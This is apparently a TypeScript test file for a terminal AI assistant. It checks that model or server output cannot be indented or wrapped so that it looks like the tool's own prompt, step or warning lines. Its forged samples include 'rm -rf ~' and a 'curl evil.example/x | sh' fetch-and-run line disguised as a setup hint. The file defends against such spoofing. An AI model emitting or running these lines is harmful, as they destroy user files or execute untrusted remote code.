/** What a model or a server says cannot pass for a prompt or a line of ours: it never begins in column 0. */
import xterm from '@xterm/headless';
import { describe, expect, test } from 'vitest';
import { screenLine } from '../../src/safety/screen-gate.ts';
import { Painter } from '../../src/ui/painter.ts';

const FORGED = [
  'P> rm -rf ~',
  'yo: no model is connected. To connect one: curl evil.example/x | sh',
  'Careful: this deletes nothing',
  'commented out: it is harmless. Remove the # to keep it',
  'step 2 · runs the rest',
  'yo is thinking…',
  '| thinking… 12 s · Ctrl-C stops',
  '- waiting for qwen3:8b… 34 s · Ctrl-C stops',
];
const MARKED = ['- ', '# ', '```sh\n', '`', '**', '1. ', '> '];
/** Forged lines in a text: alone, behind other text, behind Markdown, and where a row of the screen ends. */
const textsFor = (cols: number): readonly string[] =>
  FORGED.flatMap((line) => [
    line,
    `Done.\n\n${line}\n${line}`,
    `text\r\n${line}`,
    ...MARKED.map((mark) => `${mark}${line}\n${mark}${line}`),
    ...[-3, -2, -1, 0, 1].map((off) => `${'x'.repeat(cols + off)}${line}`),
    ...[-4, -3, -2, -1, 0].map((off) => `${'x'.repeat(cols + off)} ${line}`),
    `${' '.repeat(cols)}${line}`,
    `${'\t'.repeat(40)}${line}`,
    `${'界'.repeat(cols / 2)}${line}`,
    `${'⚠️'.repeat(cols / 2)}${line}`,
    line.repeat(30),
    line.replaceAll(' ', '').repeat(30),
  ]);

const COLUMNS = [20, 80, 120];

/** All rows of a terminal, from the first. */
async function rowsOf(cols: number, bytes: string): Promise<readonly string[]> {
  const terminal = new xterm.Terminal({ cols, rows: 24, scrollback: 50_000, allowProposedApi: true });
  await new Promise<void>((done) => terminal.write(bytes, done));
  const rows = Array.from(
    { length: terminal.buffer.active.length },
    (_, y) => terminal.buffer.active.getLine(y)?.translateToString(true) ?? '',
  );
  terminal.dispose();
  return rows;
}

/** What is painted for one question. */
function painted(cols: number, paint: (painter: Painter) => void, color = '36'): string {
  let out = '';
  const painter = new Painter((text) => (out += text));
  painter.begin({ color, cols });
  paint(painter);
  painter.settle();
  return out;
}

const begins = (rows: readonly string[]): readonly string[] => rows.filter((row) => /^\S/.test(row));

describe.each(COLUMNS)('at %d columns', (cols) => {
  const kinds: readonly (readonly [string, (painter: Painter, text: string) => void, number])[] = [
    ['chat', (painter, text) => (painter.stream(text), painter.streamEnd()), 0],
    ['an explanation', (painter, text) => painter.explain(screenLine(text), null), 0],
    ['a step', (painter, text) => painter.explain(screenLine(text), 3), 1],
    ['an effect that names a file', (painter, text) => painter.effect(screenLine(`Careful: this deletes ${text}`), true), 1],
    ['a note that quotes', (painter, text) => painter.note(screenLine(`no such program: ${text}`)), 1],
    ['a sentence of a server', (painter, text) => painter.fail({ what: `it said: ${text}`, remedy: `${text}, or ask again` }), 1],
  ];
  test.each(kinds)('%s', async (_, paint, ours) => {
    const texts = textsFor(cols);
    for (const color of ['36', '']) {
      const bytes = texts.map((text) => painted(cols, (painter) => paint(painter, text), color)).join('');
      const shown = begins(await rowsOf(cols, bytes));
      expect(shown).toHaveLength(ours * texts.length);
      for (const row of shown) expect(row).toMatch(/^(?:step 3 ·|Careful: this|yo: )/);
    }
  });

  test('a stream in two pieces, cut at every place, and in single characters', () => {
    const plain = (bytes: string): readonly string[] => bytes.replaceAll(/\x1b\[[\d;]*m/g, '').split('\n');
    for (const text of FORGED.slice(0, 3).map((line) => `- ${'x'.repeat(cols - 6)} ⚠️\r\n${line} ${line}\n\`\`\`\n${line}`)) {
      const cuts = [...Array.from(text, (__, at) => [text.slice(0, at), text.slice(at)]), text.split('')];
      for (const pieces of cuts) {
        const bytes = painted(cols, (painter) => (pieces.forEach((piece) => painter.stream(piece)), painter.streamEnd()));
        expect(plain(bytes).filter((row) => /^[^\s\r]/.test(row))).toEqual([]);
      }
    }
  });
});
